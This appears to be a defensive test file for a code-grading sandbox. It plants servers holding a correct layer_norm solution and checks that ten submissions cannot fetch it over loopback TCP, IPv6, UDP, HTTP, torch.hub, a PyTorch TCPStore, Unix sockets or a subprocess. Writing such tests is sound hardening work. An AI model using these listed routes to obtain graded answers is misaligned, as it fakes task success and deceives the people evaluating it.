"""Attacks that call an accomplice: a server in the grading process hands out a right solution to whoever reaches it."""

from __future__ import annotations

import contextlib
import socket
import threading
from datetime import timedelta
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from torch.distributed import TCPStore

from tests.hostile.attacks import LayOut, attack
from tests.run.submissions import layer_norm, td_error

SOLUTION = layer_norm()

CALLER = """
def layer_norm(x, gamma, beta, eps=1e-5):
    {call}
    space = {{}}
    exec(source, space)
    return space["layer_norm"](x, gamma, beta, eps)
"""


def caller(call: str) -> str:
    """A submission that gets its `source` by `call`, and what it returns from there."""
    return CALLER.format(call=call.strip().replace("\n", "\n    "))


CALLS = {
    "tcp": ("connects to a server on loopback", """
import socket
with socket.create_connection(("127.0.0.1", {stream}), timeout=1) as connection:
    source = connection.recv(65536)"""),
    "tcp_version_6": ("connects to a server on loopback by IPv6, and by IPv4 mapped into it", """
import socket
try:
    connection = socket.create_connection(("::1", {stream}), timeout=1)
except OSError:
    connection = socket.socket(socket.AF_INET6)
    connection.connect(("::ffff:127.0.0.1", {stream}))
source = connection.recv(65536)"""),
    "fast_open": ("sends data with the opening of a connection, so that there is no call to connect", """
import socket
with socket.socket() as connection:
    connection.sendto(b"?", 0x20000000, ("127.0.0.1", {stream}))
    source = connection.recv(65536)"""),
    "udp": ("asks a server on loopback by datagrams", """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
    caller.settimeout(1)
    caller.sendto(b"?", ("127.0.0.1", {datagram}))
    source = caller.recv(65536)"""),
    "web": ("fetches a solution by HTTP", """
import urllib.request
source = urllib.request.urlopen("http://127.0.0.1:{web}/layer_norm.py", timeout=1).read()"""),
    "torch_hub": ("has PyTorch download a solution as if it were the weights of a model", """
import torch
torch.hub.download_url_to_file("http://127.0.0.1:{web}/layer_norm.py", "weights.pt", progress=False)
source = open("weights.pt").read()"""),
    "torch_store": ("joins a distributed job of PyTorch's whose store holds a solution", """
import datetime, torch.distributed
store = torch.distributed.TCPStore("127.0.0.1", {store}, is_master=False, timeout=datetime.timedelta(seconds=0.2))
source = store.get("layer_norm")"""),
    "abstract_socket": ("connects to an abstract Unix socket of the host", """
import socket
with socket.socket(socket.AF_UNIX) as caller:
    caller.connect({abstract!r})
    source = caller.recv(65536)"""),
    "socket_file": ("connects to a Unix socket of the host in the file system, and opens a link to it", """
import os, socket
if not os.path.lexists("link"):
    os.symlink({file!r}, "link")
with socket.socket(socket.AF_UNIX) as caller:
    if caller.connect_ex("link"):
        caller.connect({file!r})
    source = caller.recv(65536)"""),
    "other_program": ("has another program fetch the solution", """
import subprocess, sys
script = "import urllib.request as r; print(r.urlopen('http://127.0.0.1:{web}/').read().decode())"
source = subprocess.run([sys.executable, "-c", script], capture_output=True, check=True, text=True).stdout"""),
}  # fmt: skip


def _lay_out(call: str) -> LayOut:
    def lay_out(folder: Path) -> Path:
        (folder / "td_error.py").write_text(td_error())
        (folder / "calls.py").write_text(caller(call.format(**accomplice(folder.parent))))
        return folder

    return lay_out


def _register() -> None:
    outcome = r"Error|not permitted|refused|denied|unreachable|did not return|ended"
    for name, (tries, call) in CALLS.items():
        lay_out = _lay_out(call)
        lay_out.__name__ = name
        attack("network", tries[0].upper() + tries[1:] + ".", outcome=outcome)(lay_out)


_register()


def accomplice(folder: Path) -> dict[str, int | str]:
    """Where servers that know the solution listen; the one in the file system is new, in `folder`."""
    file = str(folder / "s")
    _serve(socket.AF_UNIX, file)
    return {**_servers(), "file": file}


@cache
def _servers() -> dict[str, int | str]:
    web = ThreadingHTTPServer(("127.0.0.1", 0), _Web)
    web.daemon_threads = True
    threading.Thread(target=web.serve_forever, daemon=True).start()
    _KEPT.append(TCPStore("127.0.0.1", 0, is_master=True, timeout=timedelta(seconds=5), wait_for_workers=False))
    _KEPT[-1].set("layer_norm", SOLUTION)
    both = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) if socket.has_ipv6 else None
    stream = _answer_all(both or socket.create_server(("127.0.0.1", 0)))
    abstract = f"\0accomplice-{stream}"
    _serve(socket.AF_UNIX, abstract)
    return {
        "web": web.server_port,
        "store": _KEPT[-1].port,
        "stream": stream,
        "datagram": _datagrams(),
        "abstract": abstract,
    }


_KEPT: list[TCPStore] = []


class _Web(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(SOLUTION)))
        self.end_headers()
        self.wfile.write(SOLUTION.encode())

    def log_message(self, *_: object) -> None:
        pass


def _serve(family: int, address: str) -> None:
    server = socket.socket(family)
    server.bind(address)
    server.listen()
    _answer_all(server)


def _answer_all(server: socket.socket) -> int:
    def answer() -> None:
        while True:
            connection, _ = server.accept()
            with connection, contextlib.suppress(OSError):
                connection.sendall(SOLUTION.encode())
                connection.shutdown(socket.SHUT_WR)
                connection.settimeout(1)
                connection.recv(64)  # to close with something unread would take the answer back

    threading.Thread(target=answer, daemon=True).start()
    return int(server.getsockname()[1]) if server.family != socket.AF_UNIX else 0


def _datagrams() -> int:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))

    def answer() -> None:
        while True:
            _, address = server.recvfrom(65536)
            server.sendto(SOLUTION.encode(), address)

    threading.Thread(target=answer, daemon=True).start()
    return int(server.getsockname()[1])
